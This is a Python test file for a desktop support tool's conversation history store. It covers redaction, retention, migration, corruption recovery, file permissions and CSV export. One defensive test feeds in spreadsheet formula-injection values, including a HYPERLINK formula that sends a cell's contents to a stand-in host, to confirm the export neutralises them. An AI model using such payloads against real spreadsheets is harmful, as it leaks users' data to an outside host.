"""History store: autosave, redaction before write, retention, migration, corruption, export."""

from __future__ import annotations

import csv
import io
import sqlite3
import time

from desktop.core.history import SCHEMA_VERSION, Conversation, HistoryStore


def redact(text: str) -> str:
    return text.replace("SECRET", "[REDACTED]")


def test_drafts_survive_reopen(tmp_path):
    path = tmp_path / "h.sqlite3"
    store = HistoryStore(path, redact=redact)
    conv = store.new_conversation("Ana")
    conv = Conversation(
        conv.id,
        "Ana",
        "es",
        "Hola",
        "Estimada Ana",
        "withdrawal-pending",
        {"amount": "250 USDT"},
        conv.position,
        1000.0,
    )
    store.save_conversation(conv)
    second = store.new_conversation("Ivan")
    store.close()
    again = HistoryStore(path, redact=redact)
    convs = again.open_conversations()
    assert [c.title for c in convs] == ["Ana", "Ivan"]
    assert convs[0] == conv
    again.close_conversation(second.id)
    assert [c.id for c in again.open_conversations()] == [conv.id]


def test_sensitive_text_is_redacted_before_it_is_written(tmp_path):
    path = tmp_path / "h.sqlite3"
    store = HistoryStore(path, redact=redact)
    conv = Conversation(
        "c1", incoming="my phrase SECRET", draft="about SECRET", variables={"x": "SECRET"}
    )
    store.save_conversation(conv)
    store.record_copy(conv, "reply SECRET")
    store.close()
    raw = path.read_bytes() + (
        path.with_name(path.name + "-wal").read_bytes()
        if path.with_name(path.name + "-wal").exists()
        else b""
    )
    assert b"SECRET" not in raw


def test_history_search_retention_and_edited_flag(tmp_path):
    store = HistoryStore(tmp_path / "h.sqlite3", redact=redact, keep_days=30)
    conv = Conversation("c1", customer_lang="tr", template_id="withdrawal-pending", pasted_at=100.0)
    store.record_copy(
        conv,
        "Merhaba, çekiminiz işleniyor.",
        rendered="Merhaba, çekiminiz işleniyor.",
        copied_at=time.time(),
    )
    store.record_copy(conv, "Eski yanıt", copied_at=time.time() - 40 * 86400)
    assert [r.reply for r in store.search("çekim")] == ["Merhaba, çekiminiz işleniyor."]
    assert store.search("çekim")[0].edited is False
    assert store.purge_older_than(30) == 1
    assert len(store.search("")) == 1


def test_export_csv_has_kpi_fields(tmp_path):
    store = HistoryStore(tmp_path / "h.sqlite3", redact=redact)
    now = time.time()
    a = Conversation(
        "a", customer_lang="es", template_id="deposit-not-credited", pasted_at=now - 90
    )
    b = Conversation("b", customer_lang="ru", template_id="", pasted_at=now - 30)
    store.record_copy(a, "Hola", rendered="Hola!", copied_at=now)
    store.record_copy(b, "Привет", copied_at=now)
    store.record_copy(b, "Ещё", copied_at=now + 5)
    rows = list(csv.DictReader(io.StringIO(store.export_csv())))
    by_conv = {r["conversation_id"]: r for r in rows}
    assert by_conv["a"]["response_seconds"] == "90"
    assert by_conv["a"]["edited"] == "1"
    assert by_conv["a"]["first_contact_resolution"] == "1"
    assert by_conv["b"]["first_contact_resolution"] == "0"


def test_corrupted_database_is_moved_aside(tmp_path):
    path = tmp_path / "h.sqlite3"
    path.write_bytes(b"this is not a database" * 100)
    store = HistoryStore(path, redact=redact)
    assert store.report.moved_aside is not None and store.report.moved_aside.exists()
    assert store.open_conversations() == []
    store.new_conversation("fresh")
    assert len(store.open_conversations()) == 1


def test_old_schema_is_migrated(tmp_path):
    path = tmp_path / "h.sqlite3"
    from desktop.core.history import MIGRATIONS

    db = sqlite3.connect(path)
    db.executescript(MIGRATIONS[0])
    db.execute(
        "INSERT INTO history (conversation_id, copied_at, reply) VALUES ('x', ?, 'old')",
        (time.time(),),
    )
    db.execute("PRAGMA user_version=1")
    db.commit()
    db.close()
    store = HistoryStore(path, redact=redact)
    assert store.report.migrated_from == 1
    assert [r.reply for r in store.search("old")] == ["old"]
    version = sqlite3.connect(path).execute("PRAGMA user_version").fetchone()[0]
    assert version == SCHEMA_VERSION


def test_export_csv_neutralises_formula_cells(tmp_path):
    """Issue 15 fault 10 (history side): a reply starting with '=' must not run in a spreadsheet."""
    from desktop.core.csvsafe import unescape_cell

    store = HistoryStore(tmp_path / "h.sqlite3", redact=redact)
    conv = Conversation("c", customer_lang="en", template_id="@evil", pasted_at=time.time() - 5)
    replies = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+1", "-2", "\tx", "\rtab", "fine"]
    for n, reply in enumerate(replies):
        store.record_copy(conv, reply, copied_at=time.time() + n)
    rows = list(csv.DictReader(io.StringIO(store.export_csv(), newline="")))
    for row in rows:
        for cell in row.values():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    assert [unescape_cell(r["reply"]) for r in rows] == replies
    assert rows[0]["template_id"] == "'@evil"


def test_database_and_folder_are_private(tmp_path):
    """Issue 15 fault 11: history.sqlite3, -wal and -shm 0600 in a 0700 folder, also when an
    older version left them 0644/0755."""
    import os
    import stat

    folder = tmp_path / "data"
    folder.mkdir(mode=0o755)
    folder.chmod(0o755)
    old = os.umask(0o022)
    try:
        store = HistoryStore(folder / "history.sqlite3", redact=redact)
        store.new_conversation("x")
        sides = [folder / "history.sqlite3", folder / "history.sqlite3-wal",
                 folder / "history.sqlite3-shm"]  # fmt: skip
        assert all(p.exists() for p in sides)
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700
        for p in sides:
            assert stat.S_IMODE(p.stat().st_mode) == 0o600, p
        store.close()
        for p in sides:
            if p.exists():
                p.chmod(0o644)
        store = HistoryStore(folder / "history.sqlite3", redact=redact)
        store.new_conversation("y")
        for p in sides:
            assert stat.S_IMODE(p.stat().st_mode) == 0o600, p
        store.close()
        fresh = tmp_path / "new" / "deeper"
        HistoryStore(fresh / "history.sqlite3", redact=redact).close()
        assert stat.S_IMODE(fresh.stat().st_mode) == 0o700
    finally:
        os.umask(old)
